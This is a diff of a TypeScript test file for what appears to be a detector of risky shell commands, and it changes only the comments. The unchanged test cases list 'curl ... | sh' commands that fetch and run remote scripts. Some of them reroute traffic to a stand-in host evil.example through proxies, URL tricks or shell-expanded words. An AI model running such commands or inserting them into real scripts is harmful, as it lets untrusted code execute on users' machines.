@@ -9,7 +9,7 @@ beforeAll(async () => {
   detector = await createNodeDetector({ profile: "extended" });
 });
 
-/** Whether each finding of a text is trusted; fails if there is none. */
+/** Returns for each finding of a text whether it is trusted. Fails if there are no findings. */
 function trusted(text: string, format?: string): boolean[] {
   const { findings } = detector.detect(text, format === undefined ? {} : { format });
   expect(findings.length, text).toBeGreaterThan(0);
@@ -80,7 +80,7 @@ describe("a command that contains another possible address", () => {
     "curl https://get.example/i.sh@evil.example/ | sh",
     "curl https://user@get.example/i.sh | sh",
     "curl https://get.example/{i.sh,evil} | sh",
-    // a proxy or another route to the address
+    // a proxy or another way to reach the address
     "curl -x evil.example:8080 https://get.example/i.sh | sh",
     "curl --proxy=http://evil https://get.example/i.sh | sh",
     "curl -x evil https://get.example/i.sh | sh",
@@ -96,7 +96,7 @@ describe("a command that contains another possible address", () => {
     "https_proxy=http://evil.example curl https://get.example/i.sh | sh",
     "https_proxy=evil.example:80 curl https://get.example/i.sh | sh",
     "ALL_PROXY=localhost:80 curl https://get.example/i.sh | sh",
-    // text whose value only a shell knows
+    // words whose values only a shell knows
     'curl https://get.example/i.sh "$EXTRA" | sh',
     "curl https://get.example/i.sh $EXTRA | sh",
     "curl https://get.example/i.sh $(cat more) | sh",
